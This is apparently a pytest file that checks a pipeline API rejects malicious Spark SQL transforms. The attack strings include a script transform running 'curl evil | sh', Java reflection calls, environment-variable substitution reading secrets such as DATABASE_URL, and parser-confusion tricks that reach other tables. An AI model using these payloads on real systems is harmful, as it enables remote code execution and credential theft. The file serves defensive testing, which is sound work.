"""An editor cannot reach a shell, the JVM or the session through a transform (issue #12).

The REST API refuses each attack with 400 naming `spec.transform.sql` and the function, and
writes nothing. The allow-list itself is tested in tests/test_spec_sql.py and against Spark in
tests/test_spec_functions_match_spark.py.

Nor can it make Spark read another table (or the job's environment) while the check's parser
sees only `source` (issue #31 item 5): the same refusal. The check itself:
tests/test_spec_sql_relations.py; against Spark's own parser:
tests/test_spec_sql_relations_match_spark.py.
"""

from __future__ import annotations

import pytest

from controlplane.definitions.models import Pipeline, PipelineVersion
from tests.factories import valid_spec

ATTACKS = {
    "script-transform": (
        "SELECT TRANSFORM(id) USING 'sh -c \"curl evil | sh\"' AS (x STRING) FROM source",
        "script transform",
    ),
    "map-using": ("FROM source MAP id USING 'cat' AS (id)", "script transform"),
    "reflect": (
        "SELECT reflect('java.lang.System', 'getenv', 'HOME') AS id FROM source",
        "function 'reflect'",
    ),
    "java-method": (
        "SELECT java_method('java.lang.Runtime', 'getRuntime') AS id FROM source",
        "function 'java_method'",
    ),
    "try-reflect-quoted": (
        "SELECT `TRY_REFLECT`('java.lang.System', 'exit', '0') AS id FROM source",
        "function 'try_reflect'",
    ),
    "qualified": (
        "SELECT system.builtin.reflect('java.lang.System', 'exit', '0') AS id FROM source",
        "function 'system.builtin.reflect'",
    ),
    "identifier": ("SELECT IDENTIFIER('reflect')('a', 'b') AS id FROM source", "IDENTIFIER(...)"),
    "os-user": ("SELECT current_user AS id, amount, ts FROM source", "function 'current_user'"),
    "xpath": ("SELECT xpath_string(id, '/a') AS id FROM source", "function 'xpath_string'"),
    "hint": (
        "SELECT /*+ REPARTITION(reflect('a', 'b')) */ id, amount, ts FROM source",
        "function 'reflect' in the hint",
    ),
    "table-function": (
        "SELECT s.* FROM source s, python_worker_logs()",
        "table function 'python_worker_logs'",
    ),
}


READS_ANOTHER_TABLE = {
    # Spark: the table t; sqlglot: its CTE for "|> AS t"
    "pipe-alias": ("FROM source |> AS t |> JOIN t USING (id)", "in a query with |>"),
    # Spark: the table __tmp1; sqlglot: its own name for the first pipe step
    "pipe-generated-name": (
        "FROM source |> WHERE true |> UNION ALL (SELECT * FROM __tmp1)",
        "reads '__tmp1'",
    ),
    # Spark: the table other, as a stream; sqlglot: the CTE stream aliased other
    "stream": (
        "WITH stream AS (SELECT * FROM source) SELECT * FROM stream other",
        "the keyword STREAM",
    ),
    # Spark: the subquery in the hint; sqlglot: a hint
    "hint-query": (
        "SELECT /*+ REPARTITION((SELECT id FROM other)) */ id, amount, ts FROM source",
        "query inside a hint",
    ),
    # Spark: -- inside the hint hides its end, and the string ends on the next line
    "hint-comment": (
        "SELECT /*+ COALESCE(1) -- */ * FROM source WHERE id = '\n*/ * FROM other -- '",
        "could be read differently by Spark",
    ),
    # Spark: /*+ opens no nested comment, so JOIN other is code
    "nested-comment": (
        "SELECT id, amount, ts FROM source /* /*+ */ JOIN other -- */",
        "could be read differently by Spark",
    ),
    # Spark: the backslash continues the comment, so the CTE other is never defined
    "comment-continued": (
        "WITH x AS (SELECT 1) -- \\\n, other AS (SELECT * FROM source)\nSELECT * FROM other",
        "ends with a backslash",
    ),
    # Spark: the driver's environment variable, substituted into the text
    "variable": ("SELECT '${env:HOME}' AS id, amount, ts FROM source", "variable substitution"),
    # Spark: U+00A0 is whitespace, so JOIN other is a join
    "unicode-space": (
        "SELECT s.* FROM source AS s\u00a0JOIN\u00a0other USING (id)",
        "the character U+00A0",
    ),
}


@pytest.mark.parametrize(
    ("sql", "named"),
    [*ATTACKS.values(), *READS_ANOTHER_TABLE.values()],
    ids=[*ATTACKS, *READS_ANOTHER_TABLE],
)
def test_an_editor_cannot_create_a_pipeline_whose_transform_attacks(
    api, kafka_connection, postgres_connection, sql, named
):
    spec = valid_spec(transform={"sql": sql})
    response = api.post("/api/pipelines/", {"name": "attack", "spec": spec}, format="json")
    assert response.status_code == 400, response.json()
    body = response.json()
    assert list(body) == ["spec.transform.sql"], body
    (message,) = body["spec.transform.sql"]
    assert named in message
    assert not Pipeline.objects.filter(name="attack").exists()
    assert PipelineVersion.objects.count() == 0


def test_an_editor_cannot_slip_an_attack_into_an_existing_pipeline(api, pipeline):
    sql = "SELECT reflect('java.lang.System', 'getenv', 'HOME') AS id, amount, ts FROM source"
    response = api.patch(
        "/api/pipelines/orders/", {"spec": {"transform": {"sql": sql}}}, format="json"
    )
    assert response.status_code == 400, response.json()
    assert "function 'reflect'" in response.json()["spec.transform.sql"][0]
    row = Pipeline.objects.get(name="orders")
    assert (row.version, row.spec) == (1, pipeline["spec"])
    assert row.versions.count() == 1


def test_an_editor_cannot_slip_a_variable_into_an_existing_pipeline(api, pipeline):
    sql = "SELECT id, amount, ts FROM source WHERE id <> '${env:DATABASE_URL}'"
    response = api.patch(
        "/api/pipelines/orders/", {"spec": {"transform": {"sql": sql}}}, format="json"
    )
    assert response.status_code == 400, response.json()
    (message,) = response.json()["spec.transform.sql"]
    assert message.startswith("transform uses '${env:DATABASE_URL}' at line 1, column 48")
    row = Pipeline.objects.get(name="orders")
    assert (row.version, row.spec) == (1, pipeline["spec"])


@pytest.mark.parametrize(
    "sql",
    [
        "FROM source |> WHERE amount > 0 |> SELECT id, amount, ts",
        "SELECT /* a /* nested */ comment */ id, amount, ts FROM source -- it''s fine",
        "WITH `stream` AS (SELECT * FROM source) SELECT id, amount, ts FROM `stream` AS s",
        "SELECT id, amount, ts FROM source WHERE id <> 'it''s' AND id <> '$' || '{env:HOME}'",
    ],
)
def test_what_spark_reads_as_written_is_still_accepted(
    api, kafka_connection, postgres_connection, sql
):
    spec = valid_spec(transform={"sql": sql})
    response = api.post("/api/pipelines/", {"name": "fine", "spec": spec}, format="json")
    assert response.status_code == 201, response.json()
    assert Pipeline.objects.get(name="fine").spec["transform"]["sql"] == sql
